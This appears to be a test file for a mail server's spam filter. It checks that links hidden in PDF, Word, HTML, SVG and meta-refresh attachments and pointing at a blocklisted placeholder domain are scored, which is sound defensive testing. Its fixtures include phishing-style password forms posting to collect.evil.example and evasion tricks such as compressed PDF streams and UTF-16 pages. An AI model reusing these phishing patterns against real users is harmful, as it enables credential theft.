// Links inside PDF and Office attachments, over the wire (nodemailer from 127.0.0.46, the test's DNS
// serving a URI blocklist): a PDF whose link annotation points at a listed domain scores the zone's symbol
// like a link in the body would, also when the annotation sits in a compressed object stream; a PDF
// linking elsewhere adds nothing; the phishing link checks read these links too (a bare IP address
// here). A .docx whose hyperlink, an HTML file whose form (or its button's formaction), and an SVG file
// whose xlink:href goes to a listed domain score it as well, and so does a page that refreshes to one.
import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import { deflateSync } from 'node:zlib';
import { attachmentPart } from '../helpers/mime.ts';
import { docxWithLink } from '../helpers/office.ts';
import type { OutboundFixture } from '../helpers/outbound.ts';
import { buildPdf } from '../helpers/pdf.ts';
import { message, send, startSpamWorld, USER, verdictSymbols } from './fixture.ts';

let f: OutboundFixture;
before(async () => {
  f = await startSpamWorld({
    zones: { 'evil.example.dbl.test': { A: ['127.0.1.2'] } },
    configure(c) {
      c.spam.uribl.zones = ['dbl.test DBL:4'];
    },
  });
});
after(() => f?.stop());

const SENDER = 'billing@invoices.test';
function withAttachment(content: Buffer, name = 'invoice.pdf', type = 'application/pdf'): string {
  const head = message(SENDER, 'Your invoice', '', '').replace(
    'Content-Type: text/plain\r\n',
    'Content-Type: multipart/mixed; boundary="b"\r\n',
  );
  const text = ['--b', 'Content-Type: text/plain', '', 'Your invoice is attached.'];
  return `${head}${[...text, ...attachmentPart(name, type, content), '--b--', ''].join('\r\n')}`;
}
const deliver = (raw: string) => send(f, { ip: '127.0.0.46', helo: 'mail.invoices.test', from: SENDER, raw });
/** The symbols of a message's verdict, delivered or refused (a page with a listed target may well be). */
async function scored(raw: string): Promise<Record<string, number>> {
  if ((await deliver(raw)).ok) return verdictSymbols(f, USER);
  const [row] = await f.app.store.spam.recentRefusals(1);
  return Object.fromEntries(
    (JSON.parse(row.symbols) as { name: string; score: number }[]).map((x) => [x.name, x.score]),
  );
}

test('a PDF linking to a listed domain scores the blocklist symbol; one linking elsewhere does not', async () => {
  assert.ok((await deliver(withAttachment(buildPdf(['https://invoices.test/view/42'])))).ok);
  assert.ok(!('DBL' in (await verdictSymbols(f, USER))));
  assert.ok((await deliver(withAttachment(buildPdf(['https://invoices.test/', 'https://login.evil.example/pay'])))).ok);
  const symbols = await verdictSymbols(f, USER);
  assert.equal(symbols.DBL, 4, JSON.stringify(symbols));
});

test('the link inside a compressed object stream, and a link to a bare IP address, are read too', async () => {
  const body = '5 0 << /Type /Annot /Subtype /Link /A << /S /URI /URI (https://secure.evil.example/login) >> >>';
  const data = deflateSync(Buffer.from(body));
  const pdf = Buffer.concat([
    buildPdf(['http://192.0.2.7/invoice']),
    Buffer.from(`9 0 obj\n<< /Type /ObjStm /N 1 /First 5 /Filter /FlateDecode /Length ${data.length} >>\nstream\n`),
    data,
    Buffer.from('\nendstream\nendobj\n'),
  ]);
  assert.ok((await deliver(withAttachment(pdf))).ok);
  const symbols = await verdictSymbols(f, USER);
  assert.equal(symbols.DBL, 4, JSON.stringify(symbols));
  assert.ok('PHISH_LINK_TO_IP' in symbols, JSON.stringify(symbols));
});

test('a .docx whose hyperlink goes to a listed domain', async () => {
  const docx = docxWithLink('https://docs.evil.example/view?id=1&t=2');
  const type = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document';
  assert.ok((await deliver(withAttachment(docx, 'invoice.docx', type))).ok);
  const symbols = await verdictSymbols(f, USER);
  assert.equal(symbols.DBL, 4, JSON.stringify(symbols));
});

test('an HTML file whose form posts to a listed domain', async () => {
  const page =
    '<html><body><form action="https://collect.evil.example/p"><input type="password" name="pw"></form></body></html>';
  assert.ok((await deliver(withAttachment(Buffer.from(page), 'statement.html', 'text/html'))).ok);
  const symbols = await verdictSymbols(f, USER);
  assert.equal(symbols.DBL, 4, JSON.stringify(symbols));
  assert.ok('ATTACH_HTML_ACTIVE' in symbols, JSON.stringify(symbols));
  // The same page in UTF-16 with a byte order mark, which the browser obeys: its form is seen the same.
  const utf16 = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(page, 'utf16le')]);
  assert.equal((await scored(withAttachment(utf16, 'statement.html', 'application/octet-stream'))).DBL, 4, 'UTF-16');
});

test('an HTML file whose submit button posts elsewhere (formaction), an SVG file with an xlink:href link', async () => {
  // HTML: the clicked button's formaction overrides the form's action. SVG 1.1: <a xlink:href> is a link.
  const page =
    '<form action="https://invoices.test/pay"><input type="password" name="pw">' +
    '<button formaction="https://collect.evil.example/p">Sign in</button></form>';
  assert.equal((await scored(withAttachment(Buffer.from(page), 'statement.html', 'text/html'))).DBL, 4, 'formaction');
  const svg =
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">' +
    '<a xlink:href="https://view.evil.example/doc"><text x="10" y="20">Open the document</text></a></svg>';
  assert.equal((await scored(withAttachment(Buffer.from(svg), 'document.svg', 'image/svg+xml'))).DBL, 4, 'xlink:href');
});

test('an HTML file that sends its reader on by itself: <meta http-equiv="refresh" content="0; url=...">', async () => {
  // HTML's declarative refresh: a browser opening the file goes to the URL without a click.
  for (const meta of [
    `<meta http-equiv="refresh" content="0; URL='https://go.evil.example/x'">`,
    '<META HTTP-EQUIV=Refresh CONTENT="1;url=https://go.evil.example/y">',
  ]) {
    const page = `<html><head>${meta}</head><body>Loading your statement...</body></html>`;
    assert.equal((await scored(withAttachment(Buffer.from(page), 'statement.html', 'text/html'))).DBL, 4, meta);
  }
});
